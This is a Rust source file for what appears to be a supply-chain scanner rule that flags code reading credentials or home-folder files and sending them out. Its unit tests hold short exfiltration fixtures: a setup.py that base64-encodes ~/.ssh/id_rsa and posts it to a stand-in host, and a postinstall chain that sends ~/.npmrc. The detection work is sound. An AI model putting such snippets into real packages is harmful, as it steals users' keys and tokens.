use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, carried, has_host, is_bundle, is_local, leaves, peer, proof};
use crate::flow::Source;
use crate::package::{Package, When};

pub(crate) struct CodeSendsSecrets;

static INFO: RuleInfo = RuleInfo {
    id: "code-sends-secrets",
    title: "Code reads secrets and sends them",
    severity: Severity::Critical,
    confidence: Confidence::High,
    attack: &["T1552.001", "T1041"],
    explanation: "A file or service that holds credentials (keys, tokens, passwords, wallets, browser stores, \
                  cloud metadata) is read, or the home folder is walked through, and what was read flows into a \
                  request, a name lookup or a socket. Certain where it happens by itself, at installation or \
                  import; likely in a function that somebody must call.",
};

impl Rule for CodeSendsSecrets {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        const SECRETS: &[Source] = &[Source::Secret, Source::HomeFile];
        let sent = package
            .acts()
            .filter(|act| leaves(act) && !is_local(&act.text));
        sent.filter(|act| {
            act.taints
                .iter()
                .any(|taint| SECRETS.contains(&taint.source))
        })
        .map(|act| {
            let when = package.when(act);
            let clause = format!(
                "sends {} to {} {}",
                carried(act, SECRETS),
                peer(act),
                when.words()
            );
            let vague = when == When::Run && (!has_host(&act.text) || is_bundle(package, act));
            let (severity, confidence) = match when.by_itself() {
                _ if vague => (Severity::Low, Confidence::Medium),
                true => (Severity::Critical, Confidence::High),
                false => (Severity::High, Confidence::Medium),
            };
            Hit::new(severity, confidence, clause).with(proof(package, act, "sent here", SECRETS))
        })
        .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn a_key_that_is_read_encoded_and_posted_is_found_where_it_is_posted() {
        let finding = found(
            "code-sends-secrets",
            &[(
                "setup.py",
                "import os, base64, requests\np = os.path.expanduser('~/.ssh/id_rsa')\n\
                 d = {'k': base64.b64encode(open(p, 'rb').read())}\nrequests.post('https://c.test/x', json=d)\n",
            )],
        );
        assert_eq!(finding.severity, Severity::Critical);
        assert_eq!(line(&finding), ("setup.py".to_owned(), 4));
    }

    #[test]
    fn it_is_followed_from_module_to_module() {
        let finding = found(
            "code-sends-secrets",
            &[
                ("package.json", r#"{"scripts":{"postinstall":"node a.js"}}"#),
                (
                    "a.js",
                    "const {take} = require('./b');\nrequire('https').request({host:'c.test'}).end(take());",
                ),
                (
                    "b.js",
                    "const fs=require('fs'), os=require('os');\nexports.take = () => fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
                ),
            ],
        );
        assert_eq!(line(&finding).0, "a.js");
    }

    #[test]
    fn a_tool_that_reads_its_settings_or_posts_something_else_is_left_alone() {
        quiet(
            "code-sends-secrets",
            &[(
                "tool/config.py",
                "import os, requests\ndef token():\n    return open(os.path.expanduser('~/.pypirc')).read()\n\
                 def ping():\n    requests.post('https://c.test/x', json={'a': 1})\n",
            )],
        );
    }
}
